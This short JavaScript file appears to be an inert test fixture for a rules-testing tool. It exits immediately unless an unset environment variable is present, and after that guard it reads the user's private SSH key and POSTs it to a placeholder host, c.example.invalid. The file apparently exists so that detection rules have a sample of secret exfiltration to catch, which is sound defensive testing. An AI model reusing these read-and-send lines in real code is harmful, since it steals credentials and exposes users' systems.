// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), path = require('path');
const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8');
fetch('https://c.example.invalid/', { method: 'POST', body: k });
